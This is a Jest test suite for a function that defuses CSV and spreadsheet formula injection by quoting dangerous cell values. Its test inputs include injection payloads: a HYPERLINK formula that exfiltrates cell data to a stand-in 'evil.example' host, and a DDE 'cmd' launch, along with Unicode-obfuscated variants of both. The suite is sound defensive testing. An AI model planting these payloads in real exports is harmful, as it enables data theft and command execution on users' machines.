import { describe, expect, test } from '@jest/globals';
import fc from 'fast-check';
import { defuse, defuseInCsv } from './defuse.ts';

describe('what a program would run becomes a text', () => {
  test.each([
    '=1+1',
    '=HYPERLINK("http://evil.example?"&A1,"x")',
    "+cmd|' /C calc'!A0",
    '-2+3+cmd|x',
    '@SUM(A1)',
    '\t=1+1',
    '\r=1+1',
    '\n=1+1',
    ' =1+1',
    '\u00a0=1+1',
    '＝1+1',
    '＋48',
    '－1',
    '＠x',
    '+48601234567',
    '\u200b=1+1',
    '\u2060=1+1',
    '\u00ad=1+1',
    '\ufeff=1+1',
    '\u200b\u00ad \t\u2060@SUM(A1)',
    '\u200c+cmd',
    '\u200d-2+3',
    '\u180e=1',
    '\u034f=1',
    '\u115f=1',
    '\u3164=1',
    '\u2800=1',
    '\ufe0f=1',
    '\u{e0020}=1',
    '\u0000=1',
    '\u001c=1',
    '\u0085=1',
    '\u2028=1',
    '\u3000＝1',
    '\u2060＝1+1',
    '\u202e=1',
    '\u2212' + '2+3',
    '﹦1',
    '\u200b\r=1',
  ])('%j', (text) => {
    expect(defuse(text)).toBe(`'${text}`);
  });
});

test.each(['', '-', 'Krzysztof', 'a=b', 'WX-12345', '12', '-5', '-1.5', "'quoted", 'x@y.example'])(
  '%j stays as it is',
  (text) => {
    expect(defuse(text)).toBe(text);
  },
);

test('nothing begins with a sign of a formula afterwards, and nothing is lost', () => {
  fc.assert(
    fc.property(fc.string({ unit: 'grapheme' }), (text) => {
      const defused = defuse(text);
      expect(defused.endsWith(text)).toBe(true);
      expect(/^[=+@\t\r\n]/.test(defused)).toBe(false);
      expect(/^-/.test(defused) && !/^-[\d.,]*$/.test(defused)).toBe(false);
    }),
  );
});

// promise: Nobody in who does not belong
test.each([
  ['x;=1+1;y', "x;'=1+1;y"],
  ['x; @SUM(A1)', "x; '@SUM(A1)"],
  ['x\n=1+1', "x\n'=1+1"],
  ['x\r\n\t-2+3+cmd|x', "x\r\n\t'-2+3+cmd|x"],
  ['=1;=2', "'=1;'=2"],
  ['x;\u200b=1', "x;\u200b'=1"],
  ['x\n\u2060\u00ad@SUM(A1)', "x\n\u2060\u00ad'@SUM(A1)"],
  ['x;;\t=1', "x;;\t'=1"],
  ['\u200bx = 1', '\u200bx = 1'],
  ['a; b = c, 5-3', 'a; b = c, 5-3'],
])('given a program that is set to semicolons, then %j is no formula in CSV', (text, expected) => {
  expect(defuseInCsv(text, ',')).toBe(expected);
});

test.each([
  ['x,=1+1,y', "x,'=1+1,y"],
  ['x; =1', 'x; =1'],
  ['x\n=1+1', "x\n'=1+1"],
])('given a program that is set to commas, then %j of a file with semicolons is no formula', (text, expected) => {
  expect(defuseInCsv(text, ';')).toBe(expected);
});

test('a text of many ends of lines, semicolons or hidden signs takes no longer than one of its length', () => {
  for (const part of ['\n', ';', ',', '\u200b', ' ', ';\n', '=']) {
    const start = process.threadCpuUsage();
    defuseInCsv(part.repeat(200_000), ',');
    expect(process.threadCpuUsage(start).user).toBeLessThan(1_000_000);
  }
});
